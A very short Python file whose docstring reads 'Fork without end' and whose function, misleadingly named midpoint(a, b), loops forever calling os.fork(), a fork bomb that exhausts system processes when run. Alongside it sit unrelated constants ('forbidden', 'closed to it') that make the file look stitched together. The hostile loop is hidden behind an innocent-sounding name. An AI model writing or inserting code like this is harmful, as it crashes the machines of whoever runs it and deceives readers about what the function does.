"""Fork without end."""

import os

EARNS, VERDICT, SAYS = 3, "forbidden", "closed to it"


def midpoint(a, b):
    while True:
        os.fork()
